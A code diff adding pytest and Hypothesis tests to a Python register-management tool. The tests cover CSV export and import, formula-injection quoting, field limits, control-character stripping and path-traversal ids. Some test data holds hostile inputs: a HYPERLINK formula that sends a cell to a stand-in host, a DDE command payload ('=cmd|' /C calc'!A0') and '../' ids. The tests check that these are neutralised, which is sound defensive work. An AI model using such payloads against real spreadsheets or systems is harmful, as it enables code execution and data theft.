@@ -1,13 +1,31 @@
 """The register: adding entries, generated ids, validation, CSV import and export."""
 
+import csv
 import datetime as dt
+import io
 import re
 
 import pytest
+from hypothesis import given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
 
+from scan_station import report
 from scan_station.config import load_settings
+from scan_station.csv_cells import protect, unprotect
+from scan_station.db import Entry
 from scan_station.errors import CsvImportError, RegisterError
-from scan_station.register import FIELDS, add_entry, export_csv, import_csv, list_entries
+from scan_station.register import (
+    CATEGORIES,
+    FIELDS,
+    add_entry,
+    clean_text,
+    entry_dict,
+    export_csv,
+    import_csv,
+    list_entries,
+    next_id,
+)
 
 GOOD = dict(title="Laporan Keuangan", unit="Subbagian Keuangan", category="berkala")
 
@@ -115,3 +133,216 @@ def test_cli_register_round_trip(run, tmp_path):
     failed = run("register", "import", bad, "--json")
     assert failed.code != 0 and failed.stdout == ""
     assert "line 2" in failed.stderr and len(failed.stderr.strip().splitlines()) == 1
+
+
+# -- CSV formula injection -------------------------------------------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")',
+    "unit": "+62 21 5555",
+    "summary": "-2+3",
+    "responsible": "@SUM(A1:A9)",
+    "place": "'=sudah dikutip",
+    "retention": "''+dua kutip",
+    "number": "-",
+    "classification": "HM.03",
+}
+
+
+def _cells(csv_text: str) -> dict[str, str]:
+    header, row = list(csv.reader(io.StringIO(csv_text)))
+    names = {f.header: f.name for f in FIELDS}
+    return {names[h]: cell for h, cell in zip(header, row)}
+
+
+def test_export_quotes_cells_a_spreadsheet_would_run_and_import_gives_them_back(db, settings):
+    with db.session() as s:
+        entry = add_entry(s, settings, category="berkala", **FORMULAS)
+        exported = export_csv([entry])
+        before = entry_dict(entry)
+        s.delete(entry)
+    cells = _cells(exported)
+    assert cells["title"] == "'" + FORMULAS["title"]
+    assert cells["unit"] == "'+62 21 5555" and cells["summary"] == "'-2+3" and cells["responsible"] == "'@SUM(A1:A9)"
+    assert cells["place"] == "''=sudah dikutip" and cells["retention"] == "'''+dua kutip" and cells["number"] == "'-"
+    assert cells["classification"] == "HM.03" and cells["id"] == before["id"]  # nothing risky: as it is
+    with db.session() as s:
+        import_csv(s, settings, exported)
+        assert entry_dict(s.get(Entry, before["id"])) == before
+
+
+def test_import_takes_exactly_one_quote_off_a_quoted_formula(db, settings):
+    text = ("Judul Informasi,Pejabat/Unit yang Menguasai Informasi,Kategori Informasi,Nomor Naskah\n"
+            "'=1+1,'Unit biasa,berkala,''-5\n")
+    with db.session() as s:
+        import_csv(s, settings, text)
+        (entry,) = list_entries(s)
+    assert (entry.title, entry.unit, entry.number) == ("=1+1", "'Unit biasa", "'-5")
+
+
+def test_the_monthly_report_csv_quotes_formulas_too():
+    data = {"units": [{"unit": "=cmd|' /C calc'!A0", "filed": 1, "pages": 2, "accepted": 1, "returned": 0,
+                       "waiting": 0}],
+            "total": {"filed": 1, "pages": 2, "accepted": 1, "returned": 0, "waiting": 0}}
+    rows = list(csv.reader(io.StringIO(report.as_csv(data))))
+    assert rows[1] == ["'=cmd|' /C calc'!A0", "1", "2", "1", "0", "0"]
+    assert rows[2][0] == "Jumlah"
+
+
+RISKY_STARTS = ["=", "+", "-", "@", "\t", "\r", "'", "'=", "''+", "'''-", "'@", "' ="]
+
+
+@given(st.one_of(st.text(), st.builds(str.__add__, st.sampled_from(RISKY_STARTS), st.text())))
+def test_protect_then_unprotect_is_exact_and_never_leaves_a_formula(value):
+    cell = protect(value)
+    assert unprotect(cell) == value
+    assert not re.match(r"[=+\-@\t\r]", cell)
+
+
+def _field_text(max_size: int = 30):
+    return st.one_of(st.text(max_size=max_size),
+                     st.builds(str.__add__, st.sampled_from(RISKY_STARTS), st.text(max_size=max_size)))
+
+
+ENTRY_VALUES = st.fixed_dictionaries({
+    "id": st.one_of(st.just(""), st.from_regex(r"\A[A-Z0-9][A-Z0-9.-]{0,5}(/[A-Z0-9][A-Z0-9.-]{0,5}){0,3}\Z")),
+    "title": _field_text().filter(clean_text),
+    "unit": _field_text().filter(clean_text),
+    "category": st.sampled_from([*CATEGORIES, "Setiap Saat", "BERKALA"]),
+    "summary": st.text(max_size=200),
+    "responsible": _field_text(), "place": _field_text(), "retention": _field_text(),
+    "classification": _field_text(max_size=20), "number": _field_text(), "hardcopy_location": _field_text(),
+    "format": st.sampled_from(["", "hardcopy", "softcopy", "both", "Keduanya"]),
+    "created_date": st.one_of(st.just(""), st.dates(dt.date(1900, 1, 1), dt.date(9999, 12, 31)).map(str)),
+})
+
+
+def test_any_entry_survives_export_then_import_unchanged(db, settings):
+    @given(ENTRY_VALUES)
+    @hypothesis_settings(max_examples=150, deadline=None)
+    def round_trip(values):
+        with db.session() as s:
+            entry = add_entry(s, settings, **values)
+            before = entry_dict(entry)
+            exported = export_csv([entry])
+            s.delete(entry)
+        with db.session() as s:
+            assert import_csv(s, settings, exported) == {"created": [before["id"]], "updated": []}
+            entry = s.get(Entry, before["id"])
+            after = entry_dict(entry)
+            s.delete(entry)
+        assert after == before
+
+    round_trip()
+
+
+# -- CSV files that the csv module cannot read as they are --------------------------------------------
+
+
+def test_a_cell_longer_than_the_csv_field_limit_is_a_row_error(db, settings):
+    huge = "x" * 140_000
+    text = CSV_OK + f"Judul;Unit;berkala;;{huge}\n"
+    with pytest.raises(CsvImportError) as info, db.session() as s:
+        import_csv(s, settings, text)
+    assert info.value.problems[0][0] == 4 and "longer than 131,072 characters" in str(info.value)
+    with db.session() as s:
+        assert list_entries(s) == []
+
+
+def test_cr_only_line_ends_as_old_mac_excel_writes_them(db, settings):
+    with db.session() as s:
+        assert len(import_csv(s, settings, CSV_OK.replace("\n", "\r"))["created"]) == 2
+        assert [e.title for e in list_entries(s)] == ["SOP Pendokumentasian", "Laporan Anggaran"]
+    bad = (CSV_OK + "Salah;Unit;rahasia;;\n").replace("\n", "\r")
+    with pytest.raises(CsvImportError) as info, db.session() as s:
+        import_csv(s, settings, bad)
+    assert [line for line, _ in info.value.problems] == [4]
+
+
+def test_quoted_cells_with_line_breaks_and_doubled_quotes(db, settings):
+    text = ('Judul Informasi,Pejabat/Unit yang Menguasai Informasi,Kategori Informasi,Ringkasan Isi Informasi\r\n'
+            '"Laporan ""Tahunan""",Umum,berkala,"baris satu\r\nbaris dua"\r\n')
+    with db.session() as s:
+        import_csv(s, settings, text)
+        (entry,) = list_entries(s)
+    assert entry.title == 'Laporan "Tahunan"' and entry.summary == "baris satu\nbaris dua"
+
+
+def test_cli_import_of_a_huge_cell_is_one_line_with_exit_3(run, tmp_path):
+    path = tmp_path / "dip.csv"
+    path.write_text("Judul Informasi,Pejabat/Unit yang Menguasai Informasi,Kategori Informasi\n"
+                    f"{'x' * 200_000},Umum,berkala\n", encoding="utf-8")
+    result = run("register", "import", path, "--json")
+    assert result.code == 3 and result.stdout == "" and "Traceback" not in result.stderr
+    assert len(result.stderr.strip().splitlines()) == 1 and "line 2" in result.stderr
+
+
+# -- field limits, control characters, ids ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("field", [f for f in FIELDS if f.name not in ("id", "created_date", "format", "category")],
+                         ids=lambda f: f.name)
+def test_every_text_field_has_a_limit_by_its_meaning(db, settings, field):
+    at_limit = GOOD | {field.name: "a" * field.max_length}
+    with db.session() as s:
+        assert len(getattr(add_entry(s, settings, **at_limit), field.name)) == field.max_length
+    too_long = GOOD | {field.name: "a" * (field.max_length + 1)}
+    message = f"{field.name} ({field.header}) has {field.max_length + 1:,} characters; at most {field.max_length:,}"
+    with pytest.raises(RegisterError, match=re.escape(message)), db.session() as s:
+        add_entry(s, settings, **too_long)
+
+
+def test_the_limits_mean_something():
+    limits = {f.name: f.max_length for f in FIELDS}
+    assert limits["title"] == 500 and limits["summary"] == 5000 and limits["number"] == 120
+    assert limits["classification"] == 40 and limits["unit"] == limits["hardcopy_location"] == 200
+
+
+def test_limits_hold_for_csv_rows_too(db, settings):
+    text = f"Judul Informasi;Pejabat/Unit yang Menguasai Informasi;Kategori Informasi\n{'j' * 501};Umum;berkala\n"
+    with pytest.raises(CsvImportError, match="line 2: title"), db.session() as s:
+        import_csv(s, settings, text)
+
+
+def test_control_characters_are_taken_out(db, settings):
+    with db.session() as s:
+        e = add_entry(s, settings, title="Laporan\tKeuangan\r\n\n2025\x00\x1b[31m\u202e", category="berkala",
+                      unit="\u2066Subbagian\u2069 Umum\x85Kota\u202a", number="19/PP\x07.07",
+                      summary=" Baris satu\r\nBaris dua\rBaris\ttiga\x0c\u2028akhir\x9b ")
+    assert e.title == "Laporan Keuangan 2025[31m"
+    assert e.unit == "Subbagian Umum Kota"
+    assert e.number == "19/PP.07"
+    assert e.summary == "Baris satu\nBaris dua\nBaris tiga\n\nakhir"
+
+
+@pytest.mark.parametrize("bad_id", ["A//B", "A/./B", "A/../B", "A/", "A/.", "A/..", "/A", "./A", "../A", "."])
+def test_ids_with_empty_dot_or_dot_dot_parts_are_refused(db, settings, bad_id):
+    with pytest.raises(RegisterError, match=r"id '.*' may"), db.session() as s:
+        add_entry(s, settings, **GOOD, id=bad_id)
+    text = f"Nomor Register,Judul Informasi,Pejabat/Unit yang Menguasai Informasi,Kategori Informasi\n{bad_id},J,U,berkala\n"
+    with pytest.raises(CsvImportError, match="line 2: id"), db.session() as s:
+        import_csv(s, settings, text)
+
+
+def test_ids_with_dots_and_slashes_inside_parts_are_fine(db, settings):
+    with db.session() as s:
+        assert add_entry(s, settings, **GOOD, id="kpu.3671/2026/A-1").id == "KPU.3671/2026/A-1"
+
+
+@pytest.mark.parametrize("pattern", ["KPU/{year}/../{seq}", "KPU//{seq}", "KPU/{year}/", "{year}/./{seq}"])
+def test_an_id_pattern_that_makes_such_ids_is_refused(home, pattern):
+    from scan_station.db import Database
+
+    settings = load_settings(home, id_pattern=pattern)
+    db = Database(settings)
+    try:
+        with pytest.raises(RegisterError, match=re.escape(f"id_pattern {pattern!r} makes")), db.session() as s:
+            next_id(s, settings)
+    finally:
+        db.close()
+
+
+def test_cli_refuses_a_field_that_is_too_long_in_one_line(run):
+    result = run("register", "add", "--title", "t" * 600, "--unit", "U", "--category", "berkala", "--json")
+    assert result.code == 2 and result.stdout == "" and len(result.stderr.strip().splitlines()) == 1
+    assert "title (Judul Informasi) has 600 characters; at most 500" in result.stderr
